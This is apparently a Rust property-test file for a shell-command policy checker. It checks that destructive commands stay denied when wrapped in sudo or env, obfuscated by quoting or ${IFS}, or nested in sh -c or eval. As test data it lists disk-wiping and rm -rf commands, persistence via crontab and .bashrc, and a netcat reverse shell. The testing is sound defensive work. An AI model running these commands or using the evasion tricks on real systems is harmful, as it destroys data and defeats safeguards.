//! Property tests: wrappers and quoting never turn a denied command into an allowed one, and
//! no input makes the evaluator panic.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use bosso_bouncer::{Bouncer, Environment, Policy};
use proptest::prelude::*;

fn bouncer() -> Bouncer {
    Bouncer::new(
        Environment::new("/home/dev", "/home/dev/project"),
        Policy::default(),
    )
    .unwrap()
}

/// Commands a built-in rule denies, as argument vectors.
const DENIED: &[&[&str]] = &[
    &["rm", "-rf", "/"],
    &["rm", "-r", "-f", "/home/dev"],
    &["rm", "--recursive", "/etc"],
    &["chmod", "-R", "777", "/"],
    &["chown", "-R", "nobody", "/usr"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["mkfs.ext4", "/dev/sda1"],
    &["wipefs", "-a", "/dev/nvme0n1"],
    &["git", "push", "--force", "origin", "main"],
    &["unset", "HISTFILE"],
    &["crontab", "/tmp/evil.cron"],
    &["find", "/", "-delete"],
    &["tee", "-a", "/home/dev/.bashrc"],
    &["nc", "-e", "/bin/sh", "10.0.0.1", "4242"],
];

/// Wrappers that run their arguments as a command.
const WRAPPERS: &[&str] = &[
    "sudo",
    "sudo -u root",
    "sudo -E",
    "doas",
    "env",
    "env A=1",
    "env -i",
    "nice",
    "nice -n 5",
    "timeout 10",
    "timeout -s KILL 5s",
    "nohup",
    "command",
    "stdbuf -o0",
    "setsid",
    "ionice -c3",
    "time",
    "chroot /",
    "flock /tmp/l",
];

/// Ways to write one word so that the shell still sees the same argument.
fn quote(word: &str, how: u8) -> String {
    match how % 7 {
        0 => word.to_owned(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => {
            let mut c = word.chars();
            match c.next() {
                Some(first) if first.is_ascii_alphanumeric() => format!("\\{first}{}", c.as_str()),
                _ => word.to_owned(),
            }
        }
        4 => {
            let mid = word.len() / 2;
            match (word.get(..mid), word.get(mid..)) {
                (Some(a), Some(b)) if !a.is_empty() => format!("{a}''{b}"),
                _ => word.to_owned(),
            }
        }
        5 => format!(
            "$'{}'",
            word.bytes()
                .map(|b| format!("\\x{b:02x}"))
                .collect::<String>()
        ),
        _ => format!("\"\"{word}"),
    }
}

/// Evaluate (which must not panic) and check every finding points inside the line, at
/// character boundaries, and that the verdict is one of the findings (or allow when none).
fn spans_inside(line: &str) -> Result<(), TestCaseError> {
    let e = bouncer().evaluate(line);
    for f in &e.findings {
        prop_assert!(
            f.span.start <= f.span.end && f.span.end <= line.len(),
            "{f:?} in {line:?}"
        );
        prop_assert!(line.is_char_boundary(f.span.start) && line.is_char_boundary(f.span.end));
    }
    match e.findings.first() {
        None => prop_assert!(e.verdict.is_allow()),
        Some(_) => prop_assert!(e.findings.iter().any(|f| f.verdict() == e.verdict)),
    }
    Ok(())
}

/// Quote a whole line as one single-quoted shell word.
fn single_quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', r"'\''"))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn wrappers_and_quoting_never_allow_a_denied_command(
        base in 0..DENIED.len(),
        quoting in proptest::collection::vec(any::<u8>(), 8),
        wrappers in proptest::collection::vec(0..WRAPPERS.len(), 0..4),
        ifs in any::<bool>(),
        outer in 0u8..4,
    ) {
        let b = bouncer();
        let argv = DENIED[base];
        let plain = argv.join(" ");
        prop_assert!(b.check(&plain).is_deny(), "base command must be denied: {plain}");

        let sep = if ifs { "${IFS}" } else { " " };
        let words: Vec<String> = argv
            .iter()
            .enumerate()
            .map(|(i, w)| quote(w, quoting[i % quoting.len()]))
            .collect();
        let mut line = words.join(sep);
        for w in &wrappers {
            line = format!("{} {line}", WRAPPERS[*w]);
        }
        let line = match outer {
            0 => line,
            1 => format!("sh -c {}", single_quoted(&line)),
            2 => format!("eval {}", single_quoted(&line)),
            _ => format!("bash -c {} bash \"$@\"", single_quoted(&line)),
        };
        let verdict = b.check(&line);
        prop_assert!(!verdict.is_allow(), "allowed: {line}");
        prop_assert!(verdict.is_deny(), "not denied ({verdict}): {line}");
    }

    #[test]
    fn any_text_gets_a_verdict_without_panicking(line in "\\PC{0,200}") {
        spans_inside(&line)?;
    }

    #[test]
    fn shell_like_text_gets_a_verdict_without_panicking(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("rm"), Just("-rf"), Just("/"), Just("~"), Just("$("), Just(")"), Just("`"),
                Just("'"), Just("\""), Just("|"), Just("&&"), Just(";"), Just("sh -c"),
                Just("${IFS}"), Just("<<EOF\n"), Just("\nEOF\n"), Just("{"), Just("}"),
                Just("$'\\x41'"), Just("sudo"), Just("find . -exec"), Just("\\;"), Just("*"),
                Just("{a,b}"), Just("$HOME"), Just("eval"), Just("x=1"), Just("$x"),
            ],
            0..24,
        ),
    ) {
        spans_inside(&parts.join(" "))?;
    }
}
